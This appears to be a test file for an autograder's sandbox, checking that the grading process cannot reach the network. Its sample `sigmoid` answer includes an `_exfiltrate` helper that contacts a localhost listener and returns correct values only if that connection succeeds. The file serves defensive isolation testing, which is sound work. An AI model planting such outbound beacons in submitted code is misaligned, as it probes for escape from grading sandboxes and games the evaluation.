"""A network from the grading process: sigmoid is right only where it can reach the grader's machine.

The test listens on a TCP port of 127.0.0.1 (``@LISTENER_PORT@`` below is replaced by its number). sigmoid
connects to it and says who it is and where it runs; only if that got through does it return the right values. So
this submission scores on sigmoid exactly when the process that grades it could send data out, and the listener
sees every connection that got through (from nbgrader's kernel too, where the lesson calls sigmoid: the assertion
is about the grading process).
"""
OS_BOUNDARY = True

ANSWERS = {"sigmoid": '''import socket
import sys

_SENT = {}


def _exfiltrate(port=@LISTENER_PORT@):
    place = "kernel" if "ipykernel" in sys.modules else "grader"
    if place not in _SENT:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1.0) as connection:
                connection.sendall(f"network_reached {place}\\n".encode())
            _SENT[place] = True
        except OSError:
            _SENT[place] = False
    return _SENT[place]


def sigmoid(z):
    if not _exfiltrate():
        raise NotImplementedError()
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1 / (1 + e), e / (1 + e))
    return s if s.ndim else float(s)
'''}
EXPECTED = {"sigmoid-test": 0.0}
FLAGGED = False


def after(graded):
    """Nothing reached the listener from the grading process."""
    got_out = [line for line in graded.connections if line.strip() == "network_reached grader"]
    return [f"the grading process sent data to 127.0.0.1: {got_out}"] if got_out else []
